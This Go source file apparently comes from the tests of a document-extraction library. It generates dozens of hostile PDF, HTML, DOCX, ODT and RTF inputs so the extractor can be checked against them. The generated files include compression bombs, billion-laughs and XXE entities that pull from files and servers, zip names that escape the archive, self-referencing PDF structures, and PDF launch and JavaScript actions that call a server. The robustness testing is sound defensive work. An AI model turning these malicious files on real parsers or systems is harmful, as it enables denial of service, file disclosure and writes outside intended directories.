package extract

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"fmt"
	"io"
	"strings"
	"unicode/utf16"

	"rostrum/corpus"
	"rostrum/internal/faults"
)

// hostile is a class of malicious documents. make is given the address of a server
// that must not be contacted, and a file that must not be read.
type hostile struct {
	class string
	file  string // its name, for formats recognized by extension
	make  func(address, file string) []byte
}

// hostiles returns the classes. Sizes are smaller in make test.
func hostiles() []hostile {
	deep := faults.Times(10_000, 100_000)
	much := faults.Times(8<<20, 200<<20)
	bomb := faults.Times(64<<20, 2<<30)
	is := func(b []byte) func(string, string) []byte { return func(string, string) []byte { return b } }
	of := func(s string) func(string, string) []byte { return is([]byte(s)) }
	page := func(resources, content string, more ...string) func(string, string) []byte {
		return is(pagePDF("[0 0 595 842]", resources, content, more...))
	}
	text := "BT /F1 12 Tf 72 700 Td (statement) Tj ET\n"
	font := "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
	html := func(body string) func(string, string) []byte {
		return of("<!doctype html><html><head><title>t</title></head><body>" + body + "</body></html>")
	}
	word := func(xml string) func(string, string) []byte { return is(pack(file("word/document.xml", xml))) }
	document := func(body string) string {
		return `<?xml version="1.0"?><w:document xmlns:w="w"><w:body>` + body + `</w:body></w:document>`
	}
	odt := func(body string) func(string, string) []byte {
		return is(pack(file("mimetype", string(KindODT)), file("content.xml",
			`<?xml version="1.0"?><office:document-content xmlns:office="o" xmlns:text="t"><office:body><office:text>`+body+`</office:text></office:body></office:document-content>`)))
	}
	laughs := `<!DOCTYPE x [<!ENTITY a "ha">` + strings.Join(repeated(9, func(i int) string {
		return fmt.Sprintf(`<!ENTITY %c "%s">`, 'b'+i, strings.Repeat(fmt.Sprintf("&%c;", 'a'+i), 10))
	}), "") + `]>`

	return []hostile{
		{"pages: two thousand million by their count", "", is(assemble("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 2147483647 >>"))},
		{"pages: one named over and over", "", is(assemble("<< /Type /Catalog /Pages 2 0 R >>",
			fmt.Sprintf("<< /Type /Pages /Count %d /Kids [%s] >>", deep/5, strings.Repeat("3 0 R ", deep/5)), "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"))},
		{"pages: a tree that is its own branch", "", is(assemble("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [ 3 0 R ] /Count 9 >>", "<< /Type /Pages /Kids [ 2 0 R 3 0 R ] /Count 9 >>"))},
		{"pages: a tree without end", "", is(assemble(append([]string{"<< /Type /Catalog /Pages 2 0 R >>"}, repeated(deep/5, func(i int) string {
			return fmt.Sprintf("<< /Type /Pages /Kids [ %d 0 R ] /Count 1 >>", i+3)
		})...)...))},
		{"pages: of no area, or of all", "", is(pagePDF("[-1e38 -1e38 1e38 1e38]", font, text))},
		{"outline that goes round", "", is(assemble("<< /Type /Catalog /Pages 2 0 R /Outlines 3 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /First 4 0 R /Last 4 0 R /Count 99 >>",
			"<< /Title (round) /Next 4 0 R /First 4 0 R /Parent 4 0 R >>"))},
		{"cross-references that go round", "", is(bytes.Replace(makePDF(speech), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Prev 9"), 1))},
		{"cross-references to beyond the end", "", is(bytes.ReplaceAll(makePDF(speech), []byte("00000000"), []byte("99999999")))},
		{"objects: two thousand million in a stream", "", is(assemble("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /ObjStm /N 2000000000 /First 2000000000 /Length 3 >>\nstream\n1 0\nendstream"))},
		{"objects: a stream that unpacks without end", "", is(assemble("<< /Type /Catalog /Pages 9 0 R >>",
			"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "+stream(squeezed(bomb))))},
		{"objects: arrays within arrays", "", is(assemble("<< /Type /Catalog /Pages 2 0 R /X "+strings.Repeat("[", deep)+strings.Repeat("]", deep)+" >>", "<< /Type /Pages /Kids [] /Count 0 >>"))},
		{"objects: a length that is its own", "", is(assemble("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>", "<< /Length 4 0 R >>\nstream\nBT ET\nendstream"))},
		{"content that unpacks without end", "", is(flatePDF(bomb))},
		{"content of brackets within brackets", "", page(font, text+strings.Repeat("[", deep)+strings.Repeat("<<", deep)+strings.Repeat("q ", deep))},
		{"content of one string", "", page(font, "BT /F1 12 Tf ("+strings.Repeat("word ", much/40)+") Tj ET\n")},
		{"content of a million strings", "", page(font, strings.Repeat("BT /F1 1 Tf 1 1 Td (a) Tj ET\n", deep*5))},
		{"content of a thousand filters", "", is(assemble("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
			"<< /Filter ["+strings.Repeat("/ASCIIHexDecode /LZWDecode ", deep/20)+"] "+stream([]byte("80>"))))},
		{"picture of a thousand million dots", "", page("/XObject << /P 5 0 R >>", text+"q 595 0 0 842 0 0 cm /P Do Q\n",
			"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "+stream([]byte("0123456789")))},
		{"picture in the text, of no end", "", page(font, text+"BI /W 2000000000 /H 2000000000 /BPC 8 /CS /RGB ID "+strings.Repeat("x", 1000))},
		{"forms within forms, ten of each", "", func(string, string) []byte { return nestedForms() }},
		{"form that draws itself", "", page("/XObject << /F 5 0 R >>", "/F Do\n", "<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >> "+stream([]byte("/F Do /F Do")))},
		{"letter that is made of itself", "", page("/Font << /F1 5 0 R >>", text,
			"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 122 /Widths [1] /CharProcs << /a 6 0 R >> /Encoding << /Differences [97 /a] >> /Resources << /Font << /F1 5 0 R >> >> >>",
			"<< "+stream([]byte("BT /F1 1 Tf (aa) Tj ET")))},
		{"letters that stand for libraries", "", page("/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 5 0 R >> >>", text,
			"<< "+stream([]byte("begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ff> <"+strings.Repeat("fdfa", deep)+"> endbfrange endcmap")))},
		{"pattern that is made of itself", "", page("/Pattern << /P 5 0 R >>", "/Pattern cs /P scn 0 0 500 500 re f\n",
			"<< /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << /Pattern << /P 5 0 R >> >> "+stream([]byte("/Pattern cs /P scn 0 0 9 9 re f")))},
		{"files within files", "", func(string, string) []byte { return nestedFiles(faults.Times(10, 50)) }},
		{"password of nonsense", "", is(bytes.Replace(makePDF(speech), []byte("/Root 1 0 R"), []byte("/Root 1 0 R /Encrypt << /Filter /Standard /V 5 /R 6 /Length 2000000000 /O () /U () /P -1 >> /ID [() ()]"), 1))},
		{"actions: a program, a page, a file, a form sent off", "", func(address, file string) []byte {
			actions := fmt.Sprintf("[ << /S /Launch /F (/bin/touch) >> << /S /URI /URI (%s/uri) >> << /S /GoToR /F (%s) >> << /S /SubmitForm /F (%s/form) >> << /S /JavaScript /JS (app.launchURL\\(\"%s/js\"\\)) >> ]", address, file, address, address)
			return bytes.Replace(makePDF(speech), []byte("/Type /Catalog"), []byte("/Type /Catalog /OpenAction "+actions+" /AA << /WC "+actions+" >>"), 1)
		}},
		{"content in a file outside, or at an address", "", func(address, file string) []byte {
			return assemble("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents [ 4 0 R 5 0 R ] >>",
				"<< /F ("+file+") /Length 0 >>\nstream\n\nendstream", "<< /F << /FS /URL /F ("+address+"/stream) >> /Length 0 >>\nstream\n\nendstream")
		}},
		{"form of XML with entities without end", "", is(assemble("<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 3 0 R >> /Metadata 3 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>", "<< /Type /Metadata /Subtype /XML "+stream([]byte(laughs+"<x>&j;</x>"))))},
		{"head of a PDF file and noise", "", is(append([]byte("%PDF-1.7\n"), noise(1, much/10)...))},

		{"HTML: elements within elements", "", html(strings.Repeat("<div>", deep) + "statement")},
		{"HTML: tables within tables", "", html(strings.Repeat("<table><tr><td>", deep/3) + "statement")},
		{"HTML: emphasis that is never closed", "", html(strings.Repeat("<b><i><u><p>", deep) + "statement")},
		{"HTML: an element of a million attributes", "", html("<p " + strings.Join(repeated(deep*5, func(i int) string { return fmt.Sprintf("a%d=b", i) }), " ") + ">statement")},
		{"HTML: an attribute without end", "", html(`<p title="` + strings.Repeat("a", much) + `">statement`)},
		{"HTML: entities without end", "", html("<p>" + strings.Repeat("&NotEqualTilde;", much/15))},
		{"HTML: one word without end", "", html("<p>" + strings.Repeat("a", much))},
		{"HTML: a comment, a script, a title never closed", "", html(strings.Repeat("<!-- <script> <title> <![CDATA[ <textarea> <plaintext>", deep))},
		{"HTML: links to files and servers", "", func(address, file string) []byte {
			return fmt.Appendf(nil, `<html><head><base href="%[1]s/"><meta http-equiv="refresh" content="0;url=%[1]s/refresh"><link rel="stylesheet" href="%[1]s/css"><script src="%[1]s/js"></script></head>
<body><iframe src="file://%[2]s"></iframe><img src="%[1]s/img"><object data="%[1]s/object"></object><p>%[3]s</p></body></html>`, address, file, strings.Join(speech, " "))
		}},
		{"HTML: notes for machines within notes", "", html(`<script type="application/ld+json">` + strings.Repeat(`{"@graph":[`, deep) + `</script><p>statement`)},
		{"charset: UTF-16 that is cut, surrogates alone", "a.html", is(append([]byte("\xff\xfe<\x00p\x00>\x00"), bytes.Repeat([]byte("\x00\xd8"), deep)...))},
		{"charset: said to be one, and another", "a.html", of(`<meta charset="utf-7"><meta charset="x-user-defined"><meta http-equiv="Content-Type" content="text/html;charset=utf-16">+ADw-script+AD4-` + "\xff\xfe\xc0\x80\xed\xa0\x80\x1b$B\x1b(J" + strings.Repeat("\x80", deep))},
		{"zeros between the letters", "a.html", html("<p>" + strings.Repeat("s\x00t\x00a\x00t\x00e\x00", deep))},
		{"letters turned round, and letters of no width", "a.txt", of(strings.Repeat("\u202estatement\u202c\u2066\u200b\ufeff\u00ad ", deep))},
		{"marks heaped on letters", "a.txt", of("e" + strings.Repeat("\u0301\u0323", deep*5))},
		{"letters that stand for sentences", "a.txt", of(strings.Repeat("\ufdfa", much/30))},
		{"Markdown: quotations and brackets within each other", "a.md", of(strings.Repeat(">", deep) + strings.Repeat("[", deep) + strings.Repeat("*_`", deep) + strings.Repeat("](", deep) + "\n")},

		{"DOCX: a part that unpacks without end", "", is(pack(part{"word/document.xml", io.LimitReader(blanks{}, int64(bomb))}))},
		{"DOCX: entities without end", "", word(laughs + document("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>"))},
		{"DOCX: entities from files and servers", "", func(address, path string) []byte {
			return pack(file("word/document.xml", fmt.Sprintf(`<!DOCTYPE x SYSTEM "%s/dtd" [<!ENTITY f SYSTEM "file://%s"><!ENTITY %% u SYSTEM "%s/u"> %%u;]>`, address, path, address)+document("<w:p><w:r><w:t>statement &f;</w:t></w:r></w:p>")))
		}},
		{"DOCX: elements within elements", "", word(document(strings.Repeat("<w:p><w:r><w:txbxContent>", deep)))},
		{"DOCX: an element of a million attributes", "", word(document("<w:p " + strings.Join(repeated(deep*5, func(i int) string { return fmt.Sprintf(`w:a%d="b"`, i) }), " ") + "/>"))},
		{"DOCX: names that lead out of the archive", "", is(pack(file("../../../../../../tmp/escaped", "x"), file("/etc/escaped", "x"), file("word/document.xml", document("<w:p><w:r><w:t>statement</w:t></w:r></w:p>"))))},
		{"DOCX: a hundred thousand parts", "", is(pack(append(repeatedParts(deep), file("word/document.xml", document("<w:p/>")))...))},
		{"DOCX: archives within archives", "", is(pack(part{"word/document.xml", bytes.NewReader(pack(part{"word/document.xml", bytes.NewReader(pack(part{"word/document.xml", io.LimitReader(blanks{}, int64(bomb/8))}))}))}))},
		{"ODT: two thousand million blanks", "", odt(`<text:p>a` + strings.Repeat(`<text:s text:c="2000000000"/>`, deep/10) + `b</text:p>`)},
		{"ODT: elements within elements", "", odt(strings.Repeat("<text:p><text:note-body>", deep))},
		{"RTF: groups within groups", "", of(`{\rtf1 ` + strings.Repeat("{", deep*5) + "statement")},
		{"RTF: bytes without end", "", of(`{\rtf1 statement \bin2147483647 ` + strings.Repeat("x", 1000) + `{\pict\bin-1 x}\u99999999?\'zz\uc2147483647\u1?}`)},
		{"RTF: words without end", "", of(`{\rtf1 ` + strings.Repeat(`\u8364\'80\par`, much/15) + `}`)},
		{"text in UTF-16 that claims to be a web page", "a.txt", is(utf16LE(strings.Repeat("<html><p>", deep)))},
	}
}

func repeated(n int, f func(int) string) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = f(i)
	}
	return out
}

// stream closes the dictionary of a stream and adds its bytes.
func stream(b []byte) string { return fmt.Sprintf("/Length %d >>\nstream\n%s\nendstream", len(b), b) }

// squeezed compresses n spaces.
func squeezed(n int) []byte {
	var b bytes.Buffer
	z, _ := zlib.NewWriterLevel(&b, zlib.BestSpeed)
	_, _ = io.Copy(z, io.LimitReader(blanks{}, int64(n)))
	_ = z.Close()
	return b.Bytes()
}

type blanks struct{}

func (blanks) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

type part struct {
	name    string
	content io.Reader
}

func file(name, content string) part { return part{name, strings.NewReader(content)} }

func repeatedParts(n int) (out []part) {
	for i := range n {
		out = append(out, file(fmt.Sprintf("word/header%d.xml", i), "<x/>"))
	}
	return out
}

// pack makes a zip archive.
func pack(parts ...part) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, p := range parts {
		method := zip.Deflate
		if p.name == "mimetype" {
			method = zip.Store
		}
		if w, err := z.CreateHeader(&zip.FileHeader{Name: p.name, Method: method}); err == nil {
			_, _ = io.Copy(w, p.content)
		}
	}
	_ = z.Close()
	return b.Bytes()
}

// nestedForms is a file whose forms draw the next one ten times each.
func nestedForms() []byte {
	var forms []string
	for i := range 12 {
		body := strings.Repeat(fmt.Sprintf("/F%d Do ", i+1), 10)
		if i == 11 {
			body = strings.Repeat("0 0 500 500 re f ", 100)
		}
		forms = append(forms, fmt.Sprintf("<< /Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /F%d %d 0 R >> >> %s", i+1, 6+i, stream([]byte(body))))
	}
	return pagePDF("[0 0 595 842]", "/XObject << /F0 5 0 R >>", "/F0 Do\n", forms...)
}

// nestedFiles is a file with n attachments, each attached to the one before.
func nestedFiles(n int) []byte {
	inner := makePDF(speech)
	for range n {
		inner = assemble("<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [ (a.pdf) 3 0 R (b.pdf) 3 0 R ] >> >> >>", "<< /Type /Pages /Kids [] /Count 0 >>",
			"<< /Type /Filespec /F (../../a.pdf) /EF << /F 4 0 R >> >>", "<< /Type /EmbeddedFile "+stream(inner))
	}
	return inner
}

func utf16LE(s string) []byte {
	out := []byte("\xff\xfe")
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

func (h hostile) document(address, path string) corpus.Document {
	return corpus.Document{Item: corpus.Item{File: h.file, Location: address}, Bytes: h.make(address, path)}
}
